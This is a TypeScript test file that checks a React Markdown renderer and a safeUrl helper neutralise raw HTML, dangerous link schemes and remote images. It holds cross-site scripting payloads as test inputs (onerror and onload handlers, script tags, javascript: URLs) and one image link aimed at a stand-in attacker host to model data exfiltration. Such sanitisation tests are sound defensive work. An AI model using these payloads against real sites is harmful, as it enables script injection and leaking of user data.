import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown, safeUrl } from './Markdown';

const render = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));

describe('Markdown', () => {
  it('shows inline raw HTML as text, never as elements', () => {
    const html = render('look: <img src=x onerror=alert(1)> done');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('shows block-level <script> as text', () => {
    const html = render('<script>alert(1)</script>\n\nafter');
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('<p>after</p>');
  });

  it('keeps HTML-looking text inside code blocks as code', () => {
    const html = render('```html\n<iframe src="https://evil"></iframe>\n```');
    expect(html).not.toMatch(/<iframe/i);
    expect(html).toContain('&lt;iframe');
    expect(html).toContain('html');
  });

  it('drops javascript: and data: links and hardens the rest', () => {
    const html = render('[a](javascript:alert(1)) [b](data:text/html,x) [c](https://example.com)');
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/href="data:/i);
    expect(html).toContain('href="https://example.com"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('target="_blank"');
  });

  it('never loads remote images; they become links', () => {
    const html = render('![secret](https://attacker.example/leak?q=data)');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('[image: secret]');
  });

  it('renders GFM tables and fenced code with a language label', () => {
    const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```');
    expect(html).toContain('<table>');
    expect(html).toContain('class="language-ts"');
    expect(html).toContain('Copy code');
  });

  it('escapes HTML entities in attribute-like payloads', () => {
    const html = render('<a href="javascript:alert(1)">x</a> and <svg onload=alert(1)>');
    expect(html).not.toMatch(/<a href="javascript/i);
    expect(html).not.toMatch(/<svg/i);
  });
});

describe('safeUrl', () => {
  it.each([
    ['https://example.com/a', 'https://example.com/a'],
    ['mailto:a@b.c', 'mailto:a@b.c'],
    ['/relative', '/relative'],
    ['javascript:alert(1)', ''],
    ['JaVaScRiPt:alert(1)', ''],
    ['vbscript:x', ''],
    ['data:text/html;base64,xx', ''],
  ])('%s → %s', (input, expected) => {
    expect(safeUrl(input)).toBe(expected);
  });
});
